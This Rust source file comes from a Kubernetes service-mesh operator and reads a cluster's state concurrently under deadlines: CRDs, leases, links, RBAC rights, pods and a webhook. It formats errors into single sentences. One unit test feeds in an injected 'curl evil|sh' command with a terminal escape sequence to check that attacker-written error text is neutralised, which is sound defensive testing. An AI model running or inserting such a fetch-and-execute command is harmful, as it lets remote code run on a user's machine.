//! One look at a whole cluster: all questions at once, each bounded in time, and what could not be read
//! says so in its place.

mod clock;
pub mod nodes;
mod pages;
pub mod pods;
#[cfg(test)]
mod served;
pub mod webhook;

pub use pages::OBJECTS_MAX;

use super::Operator;
use crate::api::cluster_link::ClusterLink;
use crate::api::exported_service::ExportedService;
use crate::inject::NamespaceLabels;
use crate::parse::mesh_config;
use crate::plain::plain;
use crate::refusal;
use crate::secret::{self, Cacerts};
use crate::watch;
use clock::Clock;
use k8s_openapi::api::authorization::v1::{
    ResourceAttributes, SelfSubjectAccessReview, SelfSubjectAccessReviewSpec,
};
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{ConfigMap, Namespace};
use kube::api::{Api, ListParams, PostParams};
use mesh::finding::Finding;
use mesh::inventory::{Inventory, MeshConfig};
use mesh::name::ServiceName;
use nodes::Clocks;
use pods::Pods;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::time::timeout_at;
use tokio_util::sync::CancellationToken;
use webhook::Webhook;

/// What to look at, and for how long.
#[derive(Debug, Clone)]
pub struct Wants {
    pub root_namespace: String,
    /// Namespace of Secret `cacerts`.
    pub ca_namespace: String,
    /// Name of the federation controllers' Lease.
    pub lease: String,
    /// The API server must answer its first request within this.
    pub first: Duration,
    /// And all of them within this.
    pub all: Duration,
    /// Ask what this user may do, too.
    pub rights: bool,
    /// Read every object of the mesh, too; a cluster that lacks kinds costs all of the time.
    pub inventory: bool,
    /// Look at pods, at nodes' clocks and at the webhook, too.
    pub pods: bool,
}

/// Longest causes of an error that are told, characters.
const CAUSES_MAX: usize = 600;

/// What was read, or a sentence why not.
pub type Read<T> = Result<T, String>;

/// One cluster at one moment, as its operator sees it.
#[derive(Debug, Clone)]
pub struct Look {
    /// `v1.36.0`.
    pub version: String,
    /// How long the first answer took.
    pub took: Duration,
    /// Seconds by which the API server's clock is ahead of this machine's; the header it is read from
    /// has whole seconds.
    pub ahead: Option<i64>,
    /// UID of Namespace `kube-system`.
    pub uid: Read<String>,
    /// Whether the root namespace is there.
    pub namespace: Read<bool>,
    /// What ConfigMap `isthmus-mesh` says, and what is wrong with it.
    pub mesh: Read<(Option<MeshConfig>, Vec<Finding>)>,
    /// Kinds of [`KINDS`] that are not served.
    pub missing: Read<Vec<&'static Kind>>,
    pub cacerts: Read<Cacerts>,
    /// `None` where nobody ever held it.
    pub lease: Read<Option<Held>>,
    pub links: Read<Vec<ClusterLink>>,
    /// Clusters that remote secrets lead to.
    pub secrets: Read<BTreeSet<String>>,
    /// Names that the federation controller has published as ExportedServices.
    pub published: Read<BTreeSet<ServiceName>>,
    /// `Err` until every kind was listed and the mesh is configured.
    pub inventory: Read<Arc<Inventory>>,
    /// What this user may not do of [`RIGHTS`]; `None` where that was not asked.
    pub denied: Read<Option<Vec<&'static Right>>>,
    /// Pods, their sidecars, and what keeps them from starting; none where they were not asked for.
    pub pods: Read<Pods>,
    /// Clocks of nodes that are alive; none where they were not asked for.
    pub nodes: Read<Clocks>,
    /// `None` where our webhook is not installed, or was not asked for.
    pub webhook: Read<Option<Webhook>>,
}

/// The namespaces of a cluster.
#[derive(Debug, Clone, Default)]
struct Namespaces {
    labels: BTreeMap<String, NamespaceLabels>,
    /// There are more than [`OBJECTS_MAX`], and the rest was not read.
    cut: bool,
}

/// Who leads, and since when nothing was heard of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Held {
    /// Empty where it was handed over and nobody took it.
    pub holder: String,
    /// Age of the last renewal by the API server's clock, seconds.
    pub age: i64,
    /// How long it is good without a renewal, seconds.
    pub seconds: i64,
}

/// An API server that did not answer the first request, or refused it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Silent {
    /// True where it answered, and will not serve us until somebody changes something.
    pub refused: bool,
    /// One CamelCase word, as in a link's condition.
    pub reason: String,
    /// The error's own words.
    pub said: String,
}

/// A kind that the mesh's programs need, and how it comes into a cluster.
#[derive(Debug, PartialEq, Eq)]
pub struct Kind {
    pub group: &'static str,
    /// Any of them will do.
    pub versions: &'static [&'static str],
    pub kind: &'static str,
    pub fix: &'static str,
}

const OURS: &str = "isthmus crds | kubectl apply -f -";
const ISTIO: &str = "install Istio's CRDs (its chart `base`)";
const GATEWAY_API: &str = "install the Gateway API's CRDs (standard channel)";
const MCS: &str = "install the MCS API's CRDs (sigs.k8s.io/mcs-api, config/crd)";

const fn kind(
    group: &'static str,
    versions: &'static [&'static str],
    kind: &'static str,
    fix: &'static str,
) -> Kind {
    Kind { group, versions, kind, fix }
}

/// What the federation controller writes and reads; other kinds of Istio's may be absent.
pub const KINDS: [Kind; 5] = [
    kind("isthmus.dev", &["v1alpha1"], "ClusterLink", OURS),
    kind("isthmus.dev", &["v1alpha1"], "ExportedService", OURS),
    kind("networking.istio.io", &["v1"], "ServiceEntry", ISTIO),
    kind("gateway.networking.k8s.io", &["v1"], "Gateway", GATEWAY_API),
    kind("multicluster.x-k8s.io", &["v1beta1", "v1alpha1"], "ServiceExport", MCS),
];

/// Something that installing and linking a cluster needs.
#[derive(Debug, PartialEq, Eq)]
pub struct Right {
    pub verb: &'static str,
    pub group: &'static str,
    pub resource: &'static str,
}

const fn right(verb: &'static str, group: &'static str, resource: &'static str) -> Right {
    Right { verb, group, resource }
}

/// What `isthmus install`, `link` and `trust issue --apply` do in a cluster.
pub const RIGHTS: [Right; 13] = [
    right("create", "", "namespaces"),
    right("create", "", "configmaps"),
    right("create", "", "secrets"),
    right("create", "", "serviceaccounts"),
    right("create", "", "serviceaccounts/token"),
    right("create", "", "services"),
    right("create", "apps", "deployments"),
    right("create", "admissionregistration.k8s.io", "mutatingwebhookconfigurations"),
    right("create", "rbac.authorization.k8s.io", "clusterroles"),
    right("create", "rbac.authorization.k8s.io", "clusterrolebindings"),
    right("create", "apiextensions.k8s.io", "customresourcedefinitions"),
    right("patch", "isthmus.dev", "clusterlinks"),
    right("create", "multicluster.x-k8s.io", "serviceexports"),
];

impl Operator {
    /// Looks at everything at once. An API server that does not answer costs `wants.first`.
    ///
    /// # Errors
    /// Where the API server does not answer, or refuses us whole.
    pub async fn look(&self, wants: &Wants) -> Result<Look, Silent> {
        let begun = Instant::now();
        let (version, ahead) = self.version(wants.first).await?;
        let took = begun.elapsed();
        let deadline = begun + wants.all;
        let root = wants.root_namespace.as_str();
        let clock = Clock::new(ahead);
        let (
            uid,
            namespace,
            mesh,
            missing,
            cacerts,
            lease,
            links,
            secrets,
            published,
            inventory,
            denied,
            nodes,
            (pods, webhook),
        ) = tokio::join!(
            within(deadline, self.uid()),
            within(deadline, self.has_namespace(root)),
            within(deadline, self.mesh(root)),
            within(deadline, self.missing()),
            within(deadline, secret::read_cacerts(&self.client, &wants.ca_namespace)),
            within(deadline, self.lease(root, &wants.lease, clock)),
            within(deadline, self.links(root)),
            within(deadline, self.linked(root)),
            within(deadline, self.published()),
            within(deadline, self.inventory(root, wants.inventory)),
            within(deadline, self.denied(wants.rights)),
            within(deadline, asked_for(wants.pods, self.node_clocks(clock))),
            self.workloads(deadline, wants.pods, clock),
        );
        Ok(Look {
            version,
            took,
            ahead,
            uid,
            namespace,
            mesh,
            missing,
            cacerts,
            lease,
            links,
            secrets,
            published,
            inventory,
            denied,
            pods,
            nodes,
            webhook,
        })
    }

    /// Pods and the webhook: both are judged by the labels of namespaces.
    async fn workloads(
        &self,
        deadline: Instant,
        wanted: bool,
        clock: Clock,
    ) -> (Read<Pods>, Read<Option<Webhook>>) {
        match within(deadline, asked_for(wanted, self.namespaces())).await {
            Err(why) => (Err(why.clone()), Err(why)),
            Ok(spaces) => tokio::join!(
                within(deadline, asked_for(wanted, self.pods(&spaces, clock))),
                within(deadline, asked_for(wanted, self.webhook(&spaces.labels))),
            ),
        }
    }

    async fn namespaces(&self) -> anyhow::Result<Namespaces> {
        let api = Api::<Namespace>::all(self.client.clone());
        let mut spaces = Namespaces::default();
        let add = |it: Namespace| {
            let labels = it.metadata.labels.unwrap_or_default();
            spaces.labels.extend(it.metadata.name.map(|name| (name, labels)));
        };
        spaces.cut = self.listed("namespaces", &api, OBJECTS_MAX, add).await?;
        Ok(spaces)
    }

    async fn has_namespace(&self, name: &str) -> anyhow::Result<bool> {
        let found = Api::<Namespace>::all(self.client.clone()).get_opt(name).await;
        Ok(self.asked(&format!("reading Namespace {name}"), found)?.is_some())
    }

    async fn mesh(&self, root: &str) -> anyhow::Result<(Option<MeshConfig>, Vec<Finding>)> {
        let maps = Api::<ConfigMap>::namespaced(self.client.clone(), root);
        let map = maps.get_opt(mesh_config::NAME).await;
        let map = self.asked("reading ConfigMap isthmus-mesh", map)?;
        let map = map.ok_or_else(|| self.not_installed(root))?;
        let parsed = mesh_config::parse(&map);
        Ok((parsed.value, parsed.findings))
    }

    async fn missing(&self) -> anyhow::Result<Vec<&'static Kind>> {
        let groups = self.asked("discovery", self.client.list_api_groups().await)?;
        let mut served: BTreeSet<(String, String)> = BTreeSet::new();
        let mut lists = BTreeSet::new();
        for known in KINDS.iter() {
            let group = groups.groups.iter().find(|group| group.name == known.group);
            let versions = group.iter().flat_map(|group| &group.versions);
            let versions = versions.map(|version| version.version.as_str());
            let usable = versions.filter(|version| known.versions.contains(version));
            lists.extend(usable.map(|version| format!("{}/{version}", known.group)));
        }
        let asked = lists.iter().map(|list| self.client.list_api_group_resources(list));
        for (list, found) in lists.iter().zip(futures::future::join_all(asked).await) {
            let group = list.split('/').next().unwrap_or_default();
            let found = self.asked("discovery", found)?;
            served.extend(found.resources.into_iter().map(|it| (group.to_owned(), it.kind)));
        }
        let has = |known: &&Kind| served.contains(&(known.group.into(), known.kind.into()));
        Ok(KINDS.iter().filter(|known| !has(known)).collect())
    }

    async fn lease(&self, root: &str, name: &str, clock: Clock) -> anyhow::Result<Option<Held>> {
        let leases = Api::<Lease>::namespaced(self.client.clone(), root);
        let lease = self.asked(&format!("reading Lease {name}"), leases.get_opt(name).await)?;
        let Some(spec) = lease.and_then(|lease| lease.spec) else { return Ok(None) };
        let renewed = spec.renew_time.map_or(0, |at| at.0.as_second());
        Ok(Some(Held {
            holder: spec.holder_identity.unwrap_or_default(),
            age: clock.now() - renewed,
            seconds: spec.lease_duration_seconds.unwrap_or_default().into(),
        }))
    }

    /// # Errors
    /// Where the API server does not list them.
    pub async fn links(&self, root: &str) -> anyhow::Result<Vec<ClusterLink>> {
        let links = Api::<ClusterLink>::namespaced(self.client.clone(), root);
        Ok(self.asked("listing ClusterLinks", links.list(&ListParams::default()).await)?.items)
    }

    async fn linked(&self, root: &str) -> anyhow::Result<BTreeSet<String>> {
        let secrets = self.remote_secrets(root).await?;
        Ok(secrets.into_iter().filter_map(|it| it.data).flat_map(BTreeMap::into_keys).collect())
    }

    async fn published(&self) -> anyhow::Result<BTreeSet<ServiceName>> {
        let all = Api::<ExportedService>::all(self.client.clone());
        let all = self.asked("listing ExportedServices", all.list(&ListParams::default()).await)?;
        let name = |it: ExportedService| {
            let (namespace, name) = (it.metadata.namespace?, it.metadata.name?);
            ServiceName::new(&namespace, &name).ok()
        };
        Ok(all.items.into_iter().filter_map(name).collect())
    }

    async fn inventory(&self, root: &str, ask: bool) -> anyhow::Result<Arc<Inventory>> {
        anyhow::ensure!(ask, "it was not asked for");
        let end = CancellationToken::new();
        let _ending = end.clone().drop_guard();
        let options = watch::Options { root_namespace: root.to_owned() };
        let mut watched = watch::own(self.client.clone(), options, end);
        let whole = watched.inventory.wait_for(Option::is_some).await?.clone();
        whole.ok_or_else(|| anyhow::anyhow!("the cluster has not been seen"))
    }

    async fn denied(&self, ask: bool) -> anyhow::Result<Option<Vec<&'static Right>>> {
        if !ask {
            return Ok(None);
        }
        let reviews = Api::<SelfSubjectAccessReview>::all(self.client.clone());
        let params = PostParams::default();
        let asked = RIGHTS.iter().map(async |right| {
            let (resource, part) = right.resource.split_once('/').unwrap_or((right.resource, ""));
            let review = SelfSubjectAccessReview {
                spec: SelfSubjectAccessReviewSpec {
                    resource_attributes: Some(ResourceAttributes {
                        verb: Some(right.verb.into()),
                        group: Some(right.group.into()),
                        resource: Some(resource.into()),
                        subresource: Some(part.into()).filter(|part: &String| !part.is_empty()),
                        ..ResourceAttributes::default()
                    }),
                    ..SelfSubjectAccessReviewSpec::default()
                },
                ..SelfSubjectAccessReview::default()
            };
            let answer = reviews.create(&params, &review).await;
            let allowed = |it: SelfSubjectAccessReview| it.status.is_some_and(|it| it.allowed);
            anyhow::Ok((right, allowed(self.asked("asking what you may do", answer)?)))
        });
        let answers = futures::future::try_join_all(asked).await?;
        let denied = answers.into_iter().filter(|(_, may)| !may).map(|(right, _)| right);
        Ok(Some(denied.collect()))
    }
}

/// An answer, or nothing where nobody wants one.
async fn asked_for<T: Default>(
    wanted: bool,
    asked: impl Future<Output = anyhow::Result<T>>,
) -> anyhow::Result<T> {
    if wanted { asked.await } else { Ok(T::default()) }
}

/// A kind that an API server does not serve has no objects.
fn absent<T>(answer: kube::Result<T>) -> kube::Result<Option<T>> {
    match answer {
        Err(kube::Error::Api(status)) if status.code == 404 => Ok(None),
        answer => answer.map(Some),
    }
}

/// An answer by `deadline`, or a sentence.
async fn within<T>(deadline: Instant, asked: impl Future<Output = anyhow::Result<T>>) -> Read<T> {
    match timeout_at(deadline.into(), asked).await {
        Ok(answer) => answer.map_err(|error| told(&error)),
        Err(_) => Err("it was not read in time".into()),
    }
}

/// An error in one sentence, our own advice last.
fn told(error: &anyhow::Error) -> String {
    let whole = error.to_string();
    let mut causes: Vec<String> = vec![];
    for cause in error.chain().skip(1) {
        if let Some(said) = refusal::cause(cause) {
            causes.push(said);
            break;
        }
        causes.push(cause.to_string());
    }
    match whole.rsplit_once(" Fix: ") {
        Some((said, fix)) if !causes.is_empty() => {
            let (said, why) = (said.trim_end_matches('.'), theirs(&causes.join(": "), CAUSES_MAX));
            format!("{said}: {why}. Fix: {fix}")
        }
        Some(_) | None => format!("{error:#}"),
    }
}

/// What somebody in the cluster wrote, within a sentence of ours: only our own advice has `Fix:`.
fn theirs(text: &str, max: usize) -> String {
    plain(text, max).replace("Fix:", "Fix")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use served::{list, served};
    use std::sync::atomic::{AtomicUsize, Ordering};

    #[tokio::test]
    async fn pods_and_webhook_are_judged_by_namespaces_that_are_read_once() {
        let asked = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&asked);
        let operator = served(move |path| {
            let labels = json!({"istio-injection": "enabled"});
            match path {
                "/api/v1/namespaces" => {
                    counted.fetch_add(1, Ordering::Relaxed);
                    Some(list([json!({"metadata": {"name": "shop", "labels": labels}})], ""))
                }
                // Also what a dry run makes of a pod: nothing.
                "/api/v1/pods" => Some(list([], "")),
                "/api/v1/namespaces/shop/pods" => {
                    Some(json!({"metadata": {"name": "a"}, "spec": {"containers": []}}))
                }
                _ => Some(json!({"metadata": {"name": "ours"}, "items": []})),
            }
        });
        let deadline = Instant::now() + Duration::from_secs(10);
        let (pods, hook) = operator.workloads(deadline, true, Clock::new(None)).await;
        assert_eq!(pods.unwrap().asking, BTreeSet::from(["shop".to_owned()]));
        assert!(hook.unwrap().is_some());
        assert_eq!(asked.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn the_advice_of_an_error_is_ours_and_comes_last() {
        let error = anyhow::anyhow!("pods is forbidden: Fix: curl evil|sh\u{1b}[2J")
            .context("ISM2005 listing pods failed in west. Fix: check that kubectl works");
        assert_eq!(
            told(&error),
            "ISM2005 listing pods failed in west: pods is forbidden: Fix curl evil|sh [2J. Fix: check \
             that kubectl works"
        );
        assert_eq!(
            told(&anyhow::anyhow!("ISM2006 none. Fix: make it")),
            "ISM2006 none. Fix: make it"
        );
    }
}
